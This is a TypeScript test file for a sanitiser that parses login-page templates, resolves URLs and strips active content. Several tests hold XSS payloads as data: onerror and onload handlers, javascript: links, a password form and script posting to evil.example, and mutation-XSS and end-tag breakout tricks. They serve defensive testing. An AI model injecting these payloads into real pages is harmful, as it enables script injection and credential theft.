import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type PageTemplate, readTemplate } from './template.ts';

const url = new URL('https://pages.example.com/looks/unified.html?ui_locales=de');

const read = (source: string, scripts: 'none' | 'head' | 'everywhere' = 'none'): PageTemplate =>
  readTemplate(source, { url, runsScripts: scripts !== 'none', runsBodyScripts: scripts === 'everywhere' });

const printed = (source: string, scripts?: 'head' | 'everywhere'): string => JSON.stringify(read(source, scripts));

const whole = `<!DOCTYPE html><html lang="xx"><head><title> Woodgrove </title>
<link rel="stylesheet" href="look.css" data-preload="true"><style>body{color:red}</style>
<script>window.early = 1</script></head>
<body id="b" class="theme dark"><header><h1>Woodgrove &amp; Co</h1><img src="logo.png" alt="Logo"></header>
<div class="panel"><div id="api"><p>Loading…</p></div></div><footer>Bye</footer></body></html>`;

test('a page is cut open at its api element, and what stood in it gives way', () => {
  const { title, before, after, bodyId, bodyClass, hasMain } = read(whole);
  assert.equal(title, 'Woodgrove');
  assert.equal(
    before,
    '<header><h1>Woodgrove &amp; Co</h1><img src="https://pages.example.com/looks/logo.png" alt="Logo" /></header>\n<div class="panel">',
  );
  assert.equal(after, '</div><footer>Bye</footer>');
  assert.deepEqual([bodyId, bodyClass, hasMain], ['b', 'theme dark', false]);
});

test('style sheets stay, relative to the page, and where they come from is known', () => {
  const { head, origins } = read(
    `<link rel="preconnect" href="https://fonts.example"><link rel=stylesheet href="https://cdn.example/a.css" media="screen">${whole}`,
  );
  assert.deepEqual(head, [
    { kind: 'sheet', href: 'https://cdn.example/a.css', media: 'screen' },
    { kind: 'sheet', href: 'https://pages.example.com/looks/look.css', media: undefined },
    { kind: 'style', css: 'body{color:red}' },
  ]);
  assert.deepEqual(origins.styles, ['https://fonts.example', 'https://cdn.example', 'https://pages.example.com']);
  assert.deepEqual(origins.images, ['https://pages.example.com']);
});

test('exactly one api element is needed', () => {
  for (const source of [
    '',
    'not html',
    '<div id="apis"></div>',
    '<div id="api"></div><div id="api"></div>',
    '<p id="api">',
  ]) {
    assert.throws(() => read(source), { code: 'pages.templateMalformed' }, source);
  }
  assert.equal(read('<div id="api">').before, '');
});

test('a page of elements without end is not read', () => {
  for (const flood of ['<b>', '<style></style>', '<']) {
    const source = `<div id="api"></div>${flood.repeat(256 * 1024)}`.slice(0, 256 * 1024);
    assert.throws(() => read(source), { code: 'pages.templateMalformed' }, flood);
  }
});

test('what could run, ask, or show another page is taken out', () => {
  const hostile = `<div id="api"></div>
<script>alert(1)</script><script src="https://evil.example/x.js"></script>
<iframe src="https://evil.example">shown instead</iframe><frame src=x><object data=x>o</object><embed src=x>
<form action="https://evil.example"><input name=password><button>Go</button></form>
<img src=x onerror=alert(1)><svg onload=alert(1)><path d="M0 0"/></svg><a href="javascript:alert(1)">a</a>
<a href="//evil.example/x" onclick=x>b</a><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=x">
<div style="x:expression(1)}body{color:red">c</div><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math><template><script>1</script></template>`;
  for (const text of [printed(hostile)]) {
    for (const word of [
      'script',
      'iframe',
      'onerror',
      'onload',
      'onclick',
      '<form',
      '<input',
      '<base',
      '<meta',
      '<object',
      '<embed',
      '<math',
    ]) {
      const inMarkup = JSON.stringify({ ...read(hostile), head: [] });
      assert.ok(!inMarkup.includes(word), `${word} in ${inMarkup}`);
    }
    assert.ok(!text.includes('evil.example/x.js') && !text.includes('color:red'));
  }
});

test('scripts stay only where the flow runs them, and in the head unless the page is an older one', () => {
  const source = `<head><script src="a.js" defer data-preload="true" onload="x"></script><script>one()</script></head>
<body><div id="api"></div><script>two()</script></body>`;
  const scripts = (allowed: 'none' | 'head' | 'everywhere') => read(source, allowed).head;
  const [linked, inline] = [
    {
      kind: 'script',
      code: '',
      attributes: { src: 'https://pages.example.com/looks/a.js', defer: true, 'data-preload': 'true' },
    },
    { kind: 'script', code: 'one()', attributes: {} },
  ];
  assert.deepEqual(scripts('none'), []);
  assert.deepEqual(scripts('head'), [linked, inline]);
  assert.deepEqual(scripts('everywhere'), [linked, inline, { kind: 'script', code: 'two()', attributes: {} }]);
});

test('a script cannot leave its element', () => {
  const [script] = read('<script>a = "<!--<script>";</script><div id="api"></div>', 'head').head;
  assert.deepEqual(script, { kind: 'script', code: 'a = "\\x3C!--<script>";', attributes: {} });
});

test('neither a script nor a style sheet leaves its element where browsers end one and parsers do not', () => {
  for (const end of ['</style/>', '</STYLE\t>', '</style\f>', '</script/>', '</SCRIPT x>', '</script\n>']) {
    const tag = /style/i.test(end) ? 'style' : 'script';
    const source = `<${tag}>/*${end}<img src=x onerror=alert(1)>*/</${tag}><div id="api"></div>`;
    const { head, before, after } = read(source, 'head');
    const sent = head
      .map((part) => (part.kind === 'style' ? part.css : part.kind === 'script' ? part.code : ''))
      .join('');
    assert.doesNotMatch(sent, /<\/(?:style|script)/i, end);
    assert.doesNotMatch(before + after, /onerror/, end);
  }
});

test('no other element has the name of the api element', () => {
  assert.equal(read('<p id="api">x</p><div id="api"></div>').before, '<p>x</p>');
});

test('scripts and pictures come over https only', () => {
  const source =
    '<script src="http://cdn.example/a.js"></script><script src="data:text/javascript,1"></script><div id="api"></div><img src="http://cdn.example/a.png"><img src="data:image/png;base64,AA==">';
  const { head, after, origins } = read(source, 'head');
  assert.deepEqual(head, []);
  assert.ok(!after.includes('cdn.example') && after.includes('data:image/png;base64,AA=='));
  assert.deepEqual(origins.images, ['https://pages.example.com']);
});

test('a page says whether it can be shown in the dark', () => {
  const dark = (content: string) =>
    read(`<meta name="color-scheme" content="${content}"><div id="api"></div>`).knowsDark;
  assert.deepEqual([dark('light dark'), dark('light'), read(whole).knowsDark], [true, false, false]);
});

test('style attributes become rules, so that the policy of the page need not allow them', () => {
  const { head, before } = read('<p class="x" style="color: red">a</p><div id="api"></div>');
  assert.equal(before, '<p class="x usher-style-0">a</p>');
  assert.deepEqual(head, [{ kind: 'style', css: '.usher-style-0{color: red}' }]);
});
